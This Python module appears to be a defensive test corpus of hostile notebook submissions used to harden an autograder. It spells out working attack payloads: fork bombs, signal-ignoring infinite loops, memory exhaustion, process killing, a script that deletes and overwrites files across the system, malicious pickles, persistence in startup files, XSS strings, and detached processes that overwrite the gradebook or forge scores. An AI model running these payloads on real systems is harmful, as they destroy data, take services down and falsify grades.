"""Attacks that are after the grader's time, memory and nerve, or after the host and the neighbours."""

import json

from attacks.corpus import SOCKETS, Attack, solution_cell

TIMEOUT, CRASH = ("student_timeout",), ("student_crash",)
EITHER = TIMEOUT + CRASH


def broken_metadata(notebook: dict, id: str) -> dict:
    """Corrupt the metadata of one cell after another."""
    odd = [None, 7, [], "x", {"nbgrader": None}, {"nbgrader": {"grade_id": None}}, {"nbgrader": {"grade_id": ["a"]}}]
    for cell, metadata in zip(notebook["cells"], odd, strict=False):
        cell["metadata"] = metadata
    for cell in notebook["cells"][3:5]:
        cell["id"] = {"a": 1}
    return notebook


def many_cells(notebook: dict, id: str) -> bytes:
    notebook["cells"] += [{"cell_type": "code", "source": "1"}] * 5000
    return json.dumps(notebook).encode()


def slow_text(notebook: dict, id: str) -> dict:
    """Write what makes a careless expression or parser take for ever."""
    texts = ["\n" * 190_000, "x = " + "1+" * 40_000 + "1", "(" * 50_000, "-" * 50_000 + "1", "x" + ".a" * 90_000,
             "x = " + "a," * 90_000, "def " * 20_000, "check(" * 10_000, " " * 50_000, "lambda:" * 5_000]  # fmt: skip
    for text in texts:
        notebook["cells"].append({"cell_type": "code", "source": text, "metadata": {}})
    for text in ("`" * 80_000, "[" * 80_000, "<" * 80_000, "j a v a " * 10_000, "*_" * 40_000, "> " * 40_000):
        notebook["cells"].append({"cell_type": "markdown", "source": text, "metadata": {}})
    solution_cell(notebook, id)["source"] = "x = " + "1+" * 90_000 + "1"
    return notebook


def deep_json(notebook: dict, id: str) -> bytes:
    text = json.dumps(notebook | {"metadata": {"deep": "HERE"}})
    return text.replace('"HERE"', "[" * 500_000 + "]" * 500_000).encode()


DENIAL = (
    Attack("D01", "a cell that never ends", first="while True: pass", states=TIMEOUT),
    Attack("D01_check", "an answer that never ends", answer="def NAME(*args, **kwargs):\n    while True: pass\n", states=TIMEOUT),
    Attack("D01_sleep", "an answer that sleeps", answer="def NAME(*args, **kwargs):\n    __import__('time').sleep(1e6)\n",
           states=TIMEOUT),
    Attack("D02", "a loop that catches everything", first="""
import signal, resource
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True: pass
    except BaseException:
        pass
""", states=TIMEOUT),
    Attack("D02_check", "an answer that catches everything", answer="""
def NAME(*args, **kwargs):
    import signal, resource
    resource.setrlimit(resource.RLIMIT_CPU, (resource.getrlimit(resource.RLIMIT_CPU)[1],) * 2)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True:
        try:
            while True: pass
        except BaseException:
            pass
""", states=TIMEOUT),
    Attack("D04", "printing without end", first="while True: print('x' * 10000)", states=TIMEOUT, proof="CellTimeoutError"),
    Attack("D04_rich", "too many pictures, tables and pages", first="""
from IPython.display import HTML, Image, Markdown, display
for i in range(300):
    display(HTML("<div>" * 50000), Markdown("[" * 10**6))
    display({"text/plain": "x" * 10**6, "image/png": "iVBORw0KGgo" * 10**5, "text/html": "<b>" * 400000}, raw=True)
""", states=("graded", *EITHER)),
    Attack("D04_cells", "every cell shows as much as one may", change=lambda notebook, id: notebook | {"cells": [
        *notebook["cells"], *({"cell_type": "code", "metadata": {}, "source":
        "from IPython.display import HTML, display\nfor i in range(50): display(HTML('<i>a</i>' * 2000))"} for _ in range(12))]},
        keeps=False, states=("graded", "student_timeout")),
    Attack("D05", "a fork bomb", first="""
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""", states=EITHER),
    Attack("D05_daemons", "a fork bomb of daemons that ignore signals, from within a check", answer="""
def NAME(*args, **kwargs):
    import os, signal
    for n in range(40):
        try:
            if os.fork() == 0:
                os.setsid()
                for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(number, signal.SIG_IGN)
                while True: pass
        except OSError:
            break
    return 0.0
""", states=("graded", *EITHER)),
    Attack("D05_threads", "threads without end", first="""
import threading, time
while True:
    try:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except RuntimeError:
        break
""", states=("graded", *EITHER)),
    Attack("D07", "memory in one process", first="hoard = []\nwhile True: hoard.append(bytearray(50_000_000))",
           states=("graded", *EITHER)),
    Attack("D07_many", "memory in many processes, each under the limit", first="""
import os, time
for n in range(30):
    if os.fork() == 0:
        hoard = bytearray(b"x" * 300_000_000)
        time.sleep(1000)
time.sleep(1000)
""", states=EITHER),
    Attack("D07_files", "memory in files that no process shows", first="""
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
fds = [fd for fd in (libc.memfd_create(b"hoard", 0) for n in range(100)) if fd >= 0]
fds += [fd for fd in (libc.syscall(29, 0, 50_000_000, 0o1600) for n in range(100)) if fd >= 0]
print("FOUND memory" if fds else "walked")
for n in range(20):
    for folder in ("/tmp", "/dev/shm", os.path.expanduser("~")):
        try:
            with open(f"{folder}/hoard{n}", "wb") as file: file.write(bytes(30_000_000))
        except OSError:
            pass
""", proof="walked"),
    Attack("D07_leak", "a slow leak in the check", answer="""
hoard = []
def NAME(*args, **kwargs):
    while True:
        hoard.append(np.ones(4_000_000))
""", states=("graded", *EITHER)),
    Attack("D09", "a tiny view of logical size 10^12", answer="""
turn = iter(range(10**9))
def NAME(*args, **kwargs):
    return [np.broadcast_to(np.float64(1), (10**6, 10**6)), torch.zeros(1).expand(10**12), np.zeros((10**9, 0))][next(turn) % 3]
"""),
    Attack("D10", "deep, self-containing and huge lists", answer="""
turn = iter(range(10**9))
deep = []
for _ in range(10**5): deep = [deep]
loop = []
loop.append(loop)
table = {}
table["a"] = table
def NAME(*args, **kwargs):
    return [deep, loop, table, [[]] * 10**7, range(10**9)][next(turn) % 5]
""", states=("graded", "student_crash")),
    Attack("D10_frame", "frames that unpack to a thousand times their size", answer=f"SOCKETS = {SOCKETS!r}" + """
import struct
def NAME(*args, **kwargs):
    bomb = [b"\\xdd" + struct.pack(">I", 10**6) + b"\\x90" * 10**6, b"\\xdd\\x03\\x93\\x87\\x00" * 500, b"\\x91" * 10**6,
            b"\\xdf" + struct.pack(">I", 10**5) + b"".join(b"\\xc7\\x14\\x04" + hex(k * (2**61 - 1)).encode().ljust(20, b"_") + b"\\xc0"
                                                    for k in range(1, 10**5))]
    exec(SOCKETS, globals())
    for s in sockets:
        for data in bomb:
            s.send(struct.pack(">I", len(data)) + data)
    return 0.0
""", states=("graded", *EITHER), keeps=False),
    Attack("D11", "a segmentation fault in a cell", first="import ctypes\nctypes.string_at(0)", states=CRASH),
    Attack("D11_check", "a segmentation fault in an answer", states=CRASH,
           answer="def NAME(*args, **kwargs):\n    import ctypes\n    ctypes.string_at(0)\n"),
    Attack("D11_stack", "a recursion that overflows the C stack", answer="""
def NAME(*args, **kwargs):
    import sys
    sys.setrecursionlimit(10**9)
    def f(x): return [*map(f, [x])]
    f(0)
""", states=("graded", "student_crash")),
    Attack("D12", "everything is killed", first="""
import os, signal
for target in (1, os.getppid(), 2, 0, -1):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(target, number)
        except OSError:
            pass
""", states=EITHER),
    Attack("D12_check", "everything is killed while a check runs", answer="""
def NAME(*args, **kwargs):
    import os, signal
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getppid(), signal.SIGSTOP)
    return 0.0
""", states=EITHER),
    Attack("D12_stop", "the worker is stopped while a check runs", answer="""
def NAME(*args, **kwargs):
    import os, signal
    os.kill(os.getppid(), signal.SIGSTOP)
    os.kill(os.getpid(), signal.SIGSTOP)
""", states=EITHER),
    Attack("D16", "whatever can be locked is locked", first="""
import fcntl, glob, os, sys
held = []
for path in [*glob.glob("/usr/lib/*"), *glob.glob(os.path.dirname(np.__file__) + "/*.py"), sys.executable, *glob.glob("/**/*.db")]:
    try:
        held.append(open(path, "rb"))
        fcntl.flock(held[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
    except OSError:
        pass
if os.fork() == 0:
    os.setsid()
    while True: pass
"""),
    Attack("D17", "broken metadata", change=broken_metadata, keeps=False, states=("graded", "ungradable")),
    Attack("D17_cells", "more cells than there may be", change=many_cells, keeps=False, states=("ungradable",)),
    Attack("D17_slow", "text on which a careless pattern never ends", change=slow_text, states=("graded", "student_timeout")),
    Attack("D17_long", "more text than there may be", keeps=False, states=("ungradable",), change=lambda notebook, id: notebook | {
        "cells": [*notebook["cells"], *({"cell_type": "code", "metadata": {}, "source": "a," * 90_000} for _ in range(15))]}),
    Attack("D17_deep", "deep JSON", change=deep_json, keeps=False, states=("ungradable",)),
    Attack("D23", "half a message, and no more reading", answer=f"SOCKETS = {SOCKETS!r}" + """
import struct, time
def NAME(*args, **kwargs):
    exec(SOCKETS, globals())
    for s in sockets[::-1]:
        s.send(struct.pack(">I", 10**6) + b"half")
    time.sleep(1e6)
""", states=TIMEOUT),
    Attack("D23_control", "half a message on the control socket", first=SOCKETS + """
import struct, time
for s in sockets:
    s.send(struct.pack(">I", 10**6) + b"half")
time.sleep(1e6)
""", states=TIMEOUT),
    Attack("D23_drip", "a message that comes a byte at a time", answer=f"SOCKETS = {SOCKETS!r}" + """
import struct, time
def NAME(*args, **kwargs):
    exec(SOCKETS, globals())
    for s in sockets[::-1]:
        s.send(struct.pack(">I", 10**6))
        while True:
            s.send(b"\\x90")
            time.sleep(0.05)
""", states=TIMEOUT),
    Attack("D24", "an error whose text never ends, and whose name is no name", answer="""
class Error(Exception):
    def __str__(self):
        while True: pass
Error.__name__ = Error.__qualname__ = "<script>" * 1000
def NAME(*args, **kwargs):
    raise Error
""", states=TIMEOUT),
    Attack("D25", "two hundred cells that each take a little less than they may", change=lambda notebook, id: notebook | {
        "cells": [*notebook["cells"], *({"cell_type": "code", "metadata": {}, "source":
        "import time\nuntil = time.process_time() + 0.8\nwhile time.process_time() < until: pass"} for _ in range(200))]},
        keeps=False, states=TIMEOUT),
)  # fmt: skip

DESTROY = """
import os, shutil, sys, glob
for base in ("/", "/tmp", "/work", "/root", "/home", "/var", "/etc", sys.prefix, os.path.dirname(np.__file__), "..", "../.."):
    try:
        for name in os.listdir(base):
            path = os.path.join(base, name)
            if path.startswith(("/proc", "/dev")): continue
            try:
                if os.path.isfile(path):
                    open(path, "a").write("x"); os.remove(path)
                else:
                    open(os.path.join(path, "rubbish"), "w").write("x")
            except OSError:
                pass
    except OSError:
        pass
for base in (os.path.dirname(np.__file__), os.path.dirname(sys.modules["autograder"].__file__), sys.modules["atiende"].__path__[0]):
    try:
        open(base + "/__init__.py", "a").write("\\nraise SystemExit\\n")
    except OSError:
        pass
for name in ("mem", "sysrq-trigger", "sys/kernel/core_pattern", "sys/kernel/hostname", "1/oom_score_adj", "sys/vm/drop_caches",
             "sys/kernel/pid_max", "sys/user/max_user_namespaces"):
    try:
        open("/proc/" + name, "w").write("0")
    except OSError:
        pass
"""
DAMAGE = (
    Attack("H01", "everything that can be written is", first=DESTROY, states=("graded", "student_timeout")),
    Attack("H01_check", "the same while a check runs", answer=f"def NAME(*args, **kwargs):\n    exec({DESTROY!r}, globals())\n"),
    Attack("H02", "pickles lie where results may be read", first="""
import os, pickle
class Bomb:
    def __reduce__(self): return os.system, ("touch /tmp/pwned; touch ~/pwned",)
for name in ("result", "results", "cache", "state", "outputs"):
    for folder in (".", "/tmp", os.path.expanduser("~")):
        for end in ("pkl", "pickle", "pt", "npy", "joblib"):
            pickle.dump(Bomb(), open(f"{folder}/{name}.{end}", "wb"))
""", answer="""
class Bomb:
    def __reduce__(self): return __import__("os").system, ("touch /tmp/pwned",)
def NAME(*args, **kwargs): return np.array([Bomb()], dtype=object)
"""),
    Attack("H07", "startup files for the next student", first="""
import os
home = os.path.expanduser("~")
for path in (".ipython/profile_default/startup/00.py", ".bashrc", ".profile", ".config/matplotlib/matplotlibrc", ".pythonrc.py",
             ".local/lib/python3.11/site-packages/usercustomize.py", ".jupyter/jupyter_config.py"):
    os.makedirs(os.path.dirname(f"{home}/{path}"), exist_ok=True)
    open(f"{home}/{path}", "w").write("import os; os._exit(3)")
"""),
    Attack("H08", "scripts in what is shown", first="""
from IPython.display import HTML, SVG, Javascript, Markdown, display
evil = "<script>alert(1)</script><img src=x onerror=alert(1)><a href='javascript:alert(1)'>x</a><svg/onload=alert(1)>"
display(HTML(evil), Markdown(evil + "[x](javascript:alert(1)) [y](&#106;avascript:alert(1)) [z]( java\\nscript:alert(1))"))
display(Javascript("alert(1)"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"))
display({"text/html": [evil], "text/latex": "$\\\\href{javascript:alert(1)}{x}$", "application/javascript": "alert(1)",
         "text/plain": "\\x1b]0;owned\\x07\\x1b[2J\\u202eabc"}, raw=True)
print("\\x1b[31mred\\x1b]8;;http://evil\\x07")
""", answer="""
class Evil(Exception): pass
Evil.__name__ = "<img src=x onerror=alert(1)>"
def NAME(*args, **kwargs): raise Evil("<script>alert(1)</script>`<b onclick=alert(1)>` {0.__class__} {name} \\x1b[2J")
""", change=lambda notebook, id: notebook | {"cells": [*notebook["cells"], {"cell_type": "markdown", "metadata": {}, "source":
     "<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1)) ![y](data:text/html;base64,PHN2Zz4=)"}]}),
    Attack("S22", "a detached child waits for the grading to end, and goes for the gradebook", first="""
import glob, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            for path in glob.glob("/**/gradebook.db", recursive=False) + glob.glob("/proc/*/root/**/*.db") + glob.glob("../../*.db"):
                try:
                    open(path, "wb").write(b"owned")
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)
"""),
    Attack("S23", "a detached child of a check rewrites results for ever", answer="""
def NAME(*args, **kwargs):
    import glob, os, time
    if os.fork() == 0:
        os.setsid()
        while True:
            for path in glob.glob("/tmp/**", recursive=True) + glob.glob("/dev/shm/*"):
                try:
                    open(path, "w").write('{"points": 100}')
                except OSError:
                    pass
            time.sleep(0.05)
    return 0.0
"""),
)  # fmt: skip
